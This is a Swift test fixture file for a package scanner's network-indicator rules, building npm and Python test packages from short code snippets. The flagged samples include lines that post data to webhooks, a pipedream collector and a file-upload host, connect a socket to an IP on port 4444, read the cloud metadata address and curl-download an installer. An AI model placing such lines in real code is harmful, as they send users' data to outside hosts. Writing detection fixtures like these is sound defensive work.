import TestSupport

@testable import Analyzers

/// An npm package whose entry is `code`.
func scriptPackage(_ code: String, file: String = "index.js") -> @Sendable () throws -> Artifact {
    { try npmTarball { $0.addFile("package/\(file)", code + "\n") } }
}

/// An sdist with a module of `code`.
func pythonPackage(_ code: String, file: String = "acme_box/__init__.py") -> @Sendable () throws -> Artifact {
    { try sdist { $0.addFile("acme_box-1.2.3/\(file)", code + "\n") } }
}

/// An npm package with a shell script that it does not run.
func npmShellScript(_ text: String) -> @Sendable () throws -> Artifact { scriptPackage(text, file: "tool.sh") }

let indicatorNetworkFixtures = RuleFixtures(
    flagged: [
        .webhookWithSecret: scriptPackage(
            "post('https://discord.com/api/webhooks/112233445566778899/qWErTyUiOpAsDfGhJkLzXcVbNmQwErTyUiOpAsDf', data)"
        ),
        .collectorHost: pythonPackage("import requests\nrequests.post('https://eo7k2m1.m.pipedream.net', json=data)"),
        .tunnelHost: scriptPackage("fetch('https://3f2a-198-51-100-7.ngrok-free.app/in')"),
        .pasteText: pythonPackage("import urllib.request as u\nu.urlopen('https://pastebin.com/raw/Ab3dE9xZ')"),
        .uploadHost: pythonPackage(
            "import requests\nrequests.post('https://store1.gofile.io/uploadFile', files=found)"),
        .namesWebhookService: scriptPackage("const base = 'https://hooks.slack.com/services/'"),
        .namesAnonymousHost: scriptPackage("const help = 'Open a tunnel with a service such as ngrok.io or others'"),
        .asksOwnAddress: scriptPackage("fetch('https://api.ipify.org?format=json')"),
        .addressURL: scriptPackage("fetch('http://' + '45.77.12.9' + '/a')"),
        .disguisedAddress: scriptPackage("fetch('http://0x2d4d0c09/a')"),
        .addressConnection: pythonPackage(
            "import socket\nHOST = '45.77.12.9'\ns = socket.socket()\ns.connect((HOST, 4444))"),
        .namesAddress: scriptPackage("const help = 'For example you may set it to http://45.77.12.9/ in the file'"),
        .shortLink: scriptPackage("open('https://bit.ly/3abcdef')"),
        .metadataAddress: pythonPackage("URL = 'http://169.254.169.254/latest/meta-data/'"),
        .imitatedHost: scriptPackage("fetch('https://cdn.npmjs-storage.com/a')"),
        .runtimeSource: scriptPackage("fetch('https://bun.sh/install')"),
        .fetchesRuntime: scriptPackage(
            "require('child_process').execSync('curl -fsSL https://bun.sh/install -o i.sh')"),
    ],
    clean: [
        "NET-EXFIL-HOST": scriptPackage(
            """
            // Posts to https://webhook.site/5f3c9a10-1111-2222-3333-444455556666 while testing.
            const url = process.env.WEBHOOK_URL, site = 'https://example.com/webhook.site.html'
            fetch('https://slack.com/api/chat.postMessage'); fetch('https://my.ngrok.io.example.org/a')
            """),
        "NET-IP": scriptPackage(
            """
            // http://45.77.12.9/
            const agent = 'Mozilla/5.0 Chrome/120.0.6099.109', version = '45.77.12.9', local = 'http://127.0.0.1:8080/'
            fetch('https://1.1.1.1/dns-query'); fetch('http://192.168.1.10/'); fetch('http://1.2.3.4/')
            fetch('http://[::1]:3000/'); fetch('http://203.0.113.7/'); fetch('http://0/')
            """),
        "NET-SHORT": scriptPackage("// https://bit.ly/3abcdef\nfetch('https://habit.ly.example/a')"),
        "NET-METADATA": scriptPackage("// http://169.254.169.254/\nconst linkLocal = '169.254.0.0/16'"),
        "NET-BRAND": scriptPackage(
            "fetch('https://registry.npmjs.org/a'); fetch('https://npmjs.mirror.example.org/a')"),
        "DROP-RUNTIME": scriptPackage("// https://bun.sh/install\nconst docs = 'https://bun.sh/docs'"),
    ])
